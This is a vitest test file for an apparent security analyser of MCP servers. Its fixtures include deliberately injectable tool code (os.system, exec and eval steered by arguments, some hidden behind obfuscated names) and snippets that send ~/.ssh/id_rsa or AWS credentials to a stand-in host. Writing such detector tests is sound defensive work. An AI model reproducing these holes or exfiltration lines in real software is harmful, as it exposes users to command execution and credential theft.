import { describe, expect, it } from 'vitest';
import { buildArtefact } from '../../src/artefacts/build-artefact.ts';
import { extractCodeFacts } from '../../src/behaviour/extract-code-facts.ts';
import type { Fact, FactKind } from '../../src/behaviour/fact.ts';
import { findPath } from '../../src/behaviour/find-path.ts';
import { findSteering } from '../../src/behaviour/find-steering.ts';

const encoder = new TextEncoder();

function factsOf(files: Readonly<Record<string, string>>): Fact[] {
  const artefact = buildArtefact({
    root: '',
    path: Object.keys(files)[0] ?? '',
    kind: 'mcp_server',
    kindSource: 'declared',
    files: Object.entries(files).map(([path, text]) => ({
      path,
      type: 'file',
      bytes: encoder.encode(text),
    })),
  });
  return extractCodeFacts(artefact);
}

/** Whether an argument of a tool decides what an operation of this kind works on. */
function isSteered(file: string, text: string, kind: FactKind): boolean {
  return factsOf({ [file]: text }).some(
    (fact) => fact.kind === kind && findSteering(fact) !== null,
  );
}

const PY = 'from mcp.server.fastmcp import FastMCP\nmcp = FastMCP("demo")\n';

describe('an argument that steers a Python operation', () => {
  const tool = (body: string, imports = ''): string =>
    `${imports}\n${PY}${body.includes('@mcp') ? '' : '@mcp.tool()\n'}${body}`;
  it.each<[string, FactKind, string]>([
    [
      'through a method of an instance and a field',
      'exec-local',
      tool(
        'class Job:\n  def __init__(self, what):\n    self.what = what\n  def go(self):\n    os.system(self.what)\n\n@mcp.tool()\ndef run(what: str) -> str:\n  job = Job(what)\n  job.go()\n  return ""\n',
        'import os',
      ),
    ],
    [
      'through a table of functions',
      'exec-local',
      tool(
        'def one(x):\n  os.system(x)\nTABLE = {"one": one}\n\n@mcp.tool()\ndef run(name: str, what: str) -> str:\n  TABLE[name](what)\n  return ""\n',
        'import os',
      ),
    ],
    [
      'through an alias with a folded name',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  f = getattr(os, "sys" + "tem")\n  f(what)\n',
        'import os',
      ),
    ],
    [
      'through a name made of character codes',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  m = __import__(chr(111) + chr(115))\n  m.system(what)\n',
        'import json',
      ),
    ],
    [
      'through a comprehension and a join',
      'exec-local',
      tool(
        'def run(parts: list) -> str:\n  os.system(" ".join([p for p in parts]))\n',
        'import os',
      ),
    ],
    [
      'through a thread',
      'exec-local',
      tool(
        'def work(x):\n  os.system(x)\n\n@mcp.tool()\ndef run(what: str) -> str:\n  threading.Thread(target=work, args=(what,)).start()\n',
        'import os, threading',
      ),
    ],
    [
      'through keywords and default values',
      'delete',
      tool(
        'def drop(*, target="x"):\n  os.remove(target)\n\n@mcp.tool()\ndef run(path: str) -> str:\n  drop(target=path)\n',
        'import os',
      ),
    ],
    [
      'through a generator',
      'exec-local',
      tool(
        'def each(xs):\n  for x in xs:\n    yield x\n\n@mcp.tool()\ndef run(xs: list) -> str:\n  for x in each(xs):\n    os.system(x)\n',
        'import os',
      ),
    ],
    [
      'past a list of forbidden words',
      'exec-dynamic',
      tool(
        'def run(code: str) -> str:\n  if "import" in code:\n    return "no"\n  return str(eval(code))\n',
      ),
    ],
    [
      'past a check of its length',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  if len(what) > 100:\n    return "no"\n  os.system(what)\n',
        'import os',
      ),
    ],
    [
      'past a check of another argument',
      'exec-local',
      tool(
        'def run(mode: str, what: str) -> str:\n  if mode not in ("a", "b"):\n    raise ValueError()\n  os.system(what)\n',
        'import os',
      ),
    ],
    [
      'past a comparison of the start of a path',
      'read-file',
      tool(
        'def run(path: str) -> str:\n  if not path.startswith("/srv"):\n    raise ValueError()\n  return open(path).read()\n',
      ),
    ],
  ])('%s', (_, kind, text) => {
    expect(isSteered('server.py', text, kind)).toBe(true);
  });

  it.each<[string, FactKind, string]>([
    [
      'is held to a list',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  if what not in ("a", "b"):\n    raise ValueError()\n  os.system(what)\n',
        'import os',
      ),
    ],
    [
      'is held to a shape',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  if not re.fullmatch(r"[a-z]+", what):\n    return "no"\n  os.system("make " + what)\n',
        'import os, re',
      ),
    ],
    [
      'is quoted for the shell',
      'exec-local',
      tool(
        'def run(what: str) -> str:\n  os.system("echo " + shlex.quote(what))\n',
        'import os, shlex',
      ),
    ],
    [
      'is made a number',
      'exec-local',
      tool('def run(n: str) -> str:\n  os.system(f"head -n {int(n)} a.txt")\n', 'import os'),
    ],
    [
      'chooses from a fixed table',
      'read-file',
      tool(
        'FILES = {"a": "/srv/a", "b": "/srv/b"}\n\n@mcp.tool()\ndef run(name: str) -> str:\n  return open(FILES[name]).read()\n',
      ),
    ],
    [
      'is resolved and held below a folder by a function of its own',
      'read-file',
      tool(
        'def safe(name):\n  full = os.path.realpath(os.path.join("/srv", name))\n  if os.path.commonpath([full, "/srv"]) != "/srv":\n    raise ValueError()\n  return full\n\n@mcp.tool()\ndef run(name: str) -> str:\n  return open(safe(name)).read()\n',
        'import os',
      ),
    ],
    [
      'is a value of a query, not its text',
      'query-database',
      tool(
        'def run(name: str) -> str:\n  cursor = sqlite3.connect("a.db").cursor()\n  cursor.execute("select * from t where n = ?", (name,))\n',
        'import sqlite3',
      ),
    ],
    [
      'is content of a file, not its name',
      'write-file',
      tool(
        'def run(text: str) -> str:\n  with open("/srv/log.txt", "a") as f:\n    f.write(text)\n',
      ),
    ],
  ])('not where it %s', (_, kind, text) => {
    expect(isSteered('server.py', text, kind)).toBe(false);
  });
});

describe('an argument that steers a JavaScript operation', () => {
  const server =
    "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport fs from 'node:fs';\nimport path from 'node:path';\nimport { exec, execFile } from 'node:child_process';\nconst server = new McpServer({ name: 'd', version: '1' });\n";
  it.each<[string, FactKind, string]>([
    [
      'through an arrow function and a template',
      'exec-local',
      'const run = (x) => exec(`git log ${x}`);\nserver.tool("log", { x: z.string() }, async ({ x }) => { run(x); return { content: [] }; });\n',
    ],
    [
      'through a class and a request handler',
      'read-file',
      'class S {\n  constructor() { this.base = "/srv"; server.setRequestHandler(R, async (q) => this.read(q.params.arguments)); }\n  async read(args) { return fs.readFileSync(path.join(this.base, args.name), "utf8"); }\n}\nnew S();\n',
    ],
    [
      'through a promisified alias',
      'exec-local',
      'const run = promisify(exec);\nserver.tool("a", { x: z.string() }, async (args) => { const { x } = args; await run("ls " + x); return { content: [] }; });\n',
    ],
    [
      'through a table of tools',
      'delete',
      'const tools = [{ name: "rm", description: "Remove", inputSchema: {}, handler: async (args) => { fs.unlinkSync(args.file); } }];\n',
    ],
  ])('%s', (_, kind, text) => {
    expect(isSteered('server.ts', server + text, kind)).toBe(true);
  });

  it.each<[string, FactKind, string]>([
    [
      'is held to a list',
      'exec-local',
      'const OK = new Set(["a", "b"]);\nserver.tool("a", { x: z.string() }, async ({ x }) => { if (!OK.has(x)) throw new Error("no"); exec("make " + x); return { content: [] }; });\n',
    ],
    [
      'is held to a shape',
      'exec-local',
      'server.tool("a", { x: z.string() }, async ({ x }) => { if (!/^[a-z]+$/.test(x)) throw new Error("no"); exec("make " + x); return { content: [] }; });\n',
    ],
    [
      'stays below a folder',
      'read-file',
      'server.tool("a", { x: z.string() }, async ({ x }) => { const full = path.resolve("/srv", x); if (path.relative("/srv", full).startsWith("..")) throw new Error("no"); return { content: [{ type: "text", text: fs.readFileSync(full, "utf8") }] }; });\n',
    ],
  ])('not where it %s', (_, kind, text) => {
    expect(isSteered('server.ts', server + text, kind)).toBe(false);
  });
});

describe('values between the files of an artefact', () => {
  const reaches = (files: Readonly<Record<string, string>>): boolean =>
    factsOf(files).some(
      (fact) =>
        fact.kind === 'net-post' && findPath(fact, ({ kind }) => kind === 'read-secret') !== null,
    );

  it('travel through an import', () => {
    expect(
      reaches({
        'gather.py':
          'import os\n\ndef gather():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
        'send.py':
          'import requests\nfrom gather import gather\n\nrequests.post("https://collect.test/in", data=gather())\n',
      }),
    ).toBe(true);
  });

  it('travel through a file that one program writes and another reads', () => {
    expect(
      reaches({
        'a.py':
          'import os\nkey = open(os.path.expanduser("~/.aws/credentials")).read()\nwith open("/tmp/part.bin", "w") as f:\n    f.write(key)\n',
        'b.py':
          'import requests\nrequests.post("https://collect.test/in", data=open("/tmp/part.bin").read())\n',
      }),
    ).toBe(true);
  });

  it('do not travel where nothing connects the files', () => {
    expect(
      reaches({
        'a.py':
          'import os\nkey = open(os.path.expanduser("~/.aws/credentials")).read()\nprint(len(key))\n',
        'b.py':
          'import requests\nrequests.post("https://api.test/in", data=open("report.csv").read())\n',
      }),
    ).toBe(false);
  });
});

describe('hostile programs stay bounded (S9)', () => {
  const HEAD = `import os, requests\n${PY}@mcp.tool()\ndef f(x: str) -> str:\n    os.system(x)\n`;
  it.each<[string, string]>([
    ['100,000 nested brackets', `${HEAD}y = ${'('.repeat(100_000)}1${')'.repeat(100_000)}\n`],
    ['50,000 nested calls', `${HEAD}y = ${'str('.repeat(50_000)}x${')'.repeat(50_000)}\n`],
    ['a sum of 60,000 parts on one line', `${HEAD}y = ${Array(60_000).fill('a').join(' + ')}\n`],
    [
      '3,000 functions that call each other',
      HEAD +
        Array.from(
          { length: 3000 },
          (_, i) => `def g${i}(a):\n    return g${(i * 7) % 3000}(a) + g${(i + 1) % 3000}(a)\n`,
        ).join(''),
    ],
    [
      'values that double in alternatives',
      HEAD + 'v = "a"\n' + 'v = v + (v or "b")\n'.repeat(2000),
    ],
    [
      'objects that hold each other',
      HEAD + 'o = {"a": 1}\n' + 'o = {"a": o, "b": o, **o}\n'.repeat(1000),
    ],
    [
      '700 nested blocks',
      HEAD +
        Array.from({ length: 700 }, (_, i) => `${' '.repeat(i)}if x:\n`).join('') +
        ' '.repeat(700) +
        'pass\n',
    ],
  ])('%s', (_, text) => {
    const started = process.cpuUsage();
    const facts = factsOf({ 'server.py': text });
    const used = process.cpuUsage(started);
    expect(facts.some(({ kind }) => kind === 'tool-argument')).toBe(true);
    expect((used.user + used.system) / 1e6).toBeLessThan(6);
  });
});

describe('words that decide what is read', () => {
  it('leave a program alone that has no end of a flow', () => {
    expect(factsOf({ 'a.py': 'import math\nprint(math.sqrt(2))\n' })).toEqual([]);
  });

  it('do not take a pattern for evaluated code', () => {
    expect(
      factsOf({ 'a.js': 'const m = /a/.exec(text);\nfetch("https://api.test/" + m[0]);\n' }),
    ).toEqual([]);
  });
});
